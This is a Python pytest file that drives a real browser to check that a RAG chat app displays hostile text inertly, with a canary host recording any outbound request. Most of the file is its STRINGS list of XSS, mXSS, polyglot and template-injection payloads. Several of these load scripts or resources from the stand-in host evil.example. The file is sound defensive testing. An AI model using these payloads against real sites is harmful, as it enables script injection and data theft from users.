"""Nothing that a document, an answer, a name or an error says is run, rendered or fetched: in a
real browser, in which every host but the page's own leads to a canary."""

from __future__ import annotations

import ssl
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, expect, sync_playwright

from benchmarks.page.hostile_places import PLACES, Showing, opened_sources, streamed
from benchmarks.page.hostile_store import conversation_of, files_of
from benchmarks.page.watched import KINDS, Canary, Watched, bare, host_named
from ingest import ingest_paths
from ingest.embed.embedder import Embedder
from ingest.store.directory import Store
from rag_app import Conversations
from tests.support.browsers import ANSWERS_WITHIN, MARKS, Serve, ask, drawn, serve, start
from tests.support.llm_servers import ScriptedServer, error
from tests.ui.chat.test_page import QUESTION

__all__ = ["serve"]  # a fixture
pytestmark = MARKS

# Rows come to a page one after the other: the first may be there long before the last.
WITHIN = 30.0

STRINGS = [
    "<script>hit('tag')</script>",
    "</p></div><script src=//evil.example/a.js></script>",
    "<img src=x onerror=hit('picture')>",
    "<IMG SRC='https://evil.example/p.png'>",
    "<svg/onload=hit('svg')><animate onbegin=hit('animate') attributeName=x dur=1s>",
    "\"><b onmouseover=hit('attribute')>over me</b>",
    "' autofocus onfocus=hit('focus') tabindex=1 x='",
    "[a link](javascript:hit('link')) [another](https://evil.example/go)",
    "<a href=javascript:hit('href')>click</a> <a href=//evil.example>away</a>",
    "![a picture](https://evil.example/md.png) ![x][r] [r]: https://evil.example/ref.png",
    "<javascript:hit('auto')> <https://evil.example/auto> <me@evil.example>",
    "https://evil.example/bare www.evil.example ftp://evil.example me@evil.example",
    "&lt;script&gt;hit('entity')&lt;/script&gt; &#60;img src=x onerror=hit()&#62;",
    "<iframe src='javascript:hit(1)' srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data='data:text/html,<script>hit()</script>'></object><embed src=//evil.example/e>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "<div style='background:url(https://evil.example/css.png)'>styled</div>",
    "<style>@import '//evil.example/s.css'; .stApp{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/l.css><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/meta'>",
    "<form action=//evil.example/f><input autofocus onfocus=hit('input')></form>",
    "<video src=//evil.example/v onerror=hit('video')></video><audio src=//evil.example/a>",
    "<details open ontoggle=hit('toggle')><summary>more</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit('mxss')></style></mglyph></table>",
    "$\\href{javascript:hit('tex')}{x}$ $$\\includegraphics{https://evil.example/t.png}$$",
    ":red[coloured] :blue-background[x] :material/home: :smile: :streamlit: :small[y]",
    "**bold** _slanted_ ~~struck~~ `code` # heading -> <- <= >= -- ...",
    "{{ hit('template') }} ${hit('literal')} <%= hit() %> #{hit()} {% hit %} %s {0}",
    "invoice\u202egnp.exe and zero\u200bwidth\u200d \ufeffsigns \u2066turned\u2069",
    "```html",
    "| a | b |",
    "- [ ] a task <input type=checkbox checked>",
    "> a quote <blockquote cite=//evil.example>",
    "1. a list <ol onclick=hit('list')><li>",
    "\ue0000\ue000 a place of ours [1][2] [999] ]]> <![CDATA[<img src=x onerror=hit()>]]>",
    "javascript:/*--></title></style></textarea></script><svg onload=hit('polyglot')>//",
    "\x00\x08\x1b[31m<b\x00>nul</b> \ud800 half",
    "<plaintext><xmp><noscript><template><marquee onstart=hit('marquee')>",
    "<!-- a comment that is never closed",
    "<textarea> a field that is never closed",
    "<title> a title that is never closed",
    "<style> a style that is never closed",
]


@pytest.fixture(scope="module")
def listening() -> Iterator[Canary]:
    with Canary() as canary:
        yield canary


@pytest.fixture
def canary(listening: Canary) -> Canary:
    """It has heard of nobody yet."""
    listening.callers.clear()
    return listening


@pytest.fixture(scope="module")
def browser(listening: Canary) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        started = start(playwright, *listening.arguments)
        yield started
        started.close()


def test_a_caller_is_named_by_what_it_says_and_not_by_what_looks_like_a_name() -> None:
    sent = ssl.MemoryBIO()
    client = ssl.create_default_context()
    with suppress(ssl.SSLWantReadError):
        client.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="evil.example").do_handshake()
    greeting = sent.read()
    random = 5 + 4 + 2  # where 32 random bytes begin, after two headers and a version
    greeting = greeting[:random] + b" Gi.Xl " + greeting[random + 7 :]
    assert host_named(greeting) == "evil.example"
    assert host_named(greeting[:-1]) is None
    assert host_named(b"GET /Gi.Xl HTTP/1.1\r\nhost: evil.example:80\r\n\r\n") == "evil.example"
    assert host_named(b" Gi.Xl ") is None


def test_the_alarm_rings(browser: Browser, canary: Canary) -> None:
    watched = Watched(browser)
    watched.show("<img src='https://evil.example/x' onerror='hit(1)'><a href=//evil.example>x</a>")
    watched.page.wait_for_function("watched.seen().some(([kind, what]) => what === 'hit(1)')")
    watched.gather()
    assert watched.counts.keys() == {"scripts run", "requests to elsewhere", "elements"}
    assert "evil.example" in canary.callers
    watched.context.close()


@pytest.mark.long
def test_what_others_wrote_is_shown_and_does_nothing(
    browser: Browser,
    canary: Canary,
    serve: Serve,
    own_store: Path,
    tmp_path: Path,
    embedder: Embedder,
) -> None:
    id_ = conversation_of(Conversations(Store(own_store, "default")), STRINGS)
    (tmp_path / "hostile").mkdir()
    files = files_of(tmp_path / "hostile", STRINGS, size=len(STRINGS))
    (tmp_path / "hostile" / "<img src=x onerror=hit()> :red[x].pdf").write_bytes(b"none")
    report = ingest_paths([tmp_path / "hostile"], store=own_store, embedder=embedder)
    assert [one.path[:4] for one in report.files if one.status == "failed"] == ["<img"]
    watched = Watched(browser)
    page = watched.page
    replies = (streamed("\n\n".join(STRINGS)), error(400, " ".join(STRINGS[:6])))
    with ScriptedServer(*replies, models=(STRINGS[2],)) as server:
        address = serve(own_store, OPENAI_BASE_URL=server.base_url)

        watched.go(f"{address}/?conversation={id_}")
        expect(page.get_by_test_id("stAlert")).to_be_visible(timeout=ANSWERS_WITHIN)
        drawn(page)
        page.get_by_role("button", name="Inspect").first.click()
        expect(page.locator(".rag-prompt")).to_be_attached(timeout=ANSWERS_WITHIN)
        for place, selector in PLACES.items():
            assert watched.missing(selector, STRINGS, within=WITHIN) == [], place
        opened_sources(Showing(watched), 3)

        page.get_by_role("button", name="New conversation").click()
        ask(page, QUESTION)
        streams = page.locator(".rag-answer").get_by_text("a task").first
        expect(streams).to_be_visible(timeout=ANSWERS_WITHIN)
        page.get_by_role("button", name="Stop").click()
        # While the page is drawn anew, what stood there before stands beside it for a moment.
        expect(page.get_by_text("What is written here was not checked.").last).to_be_visible()
        ask(page, QUESTION)
        expect(page.locator("p.rag-note").last).to_contain_text("status 400")

        watched.go(f"{address}/documents")
        expect(page.locator(".st-key-document-list button").first).to_be_visible()
        page.get_by_test_id("stExpander").locator("summary").click()
        names = sorted(files.names)[:20]
        assert watched.missing(".st-key-document-list", names, within=WITHIN) == []
        for name, strings in files.texts.items():
            watched.go(f"{address}/documents?document={quote(name)}")
            expect(page.locator(".rag-text")).to_be_visible(timeout=ANSWERS_WITHIN)
            assert watched.missing(".rag-text", map(bare, strings), within=WITHIN) == []
        watched.gather()
    assert {kind: watched.examples.get(kind, []) for kind in KINDS} == {kind: [] for kind in KINDS}
    assert canary.callers == []
    watched.context.close()
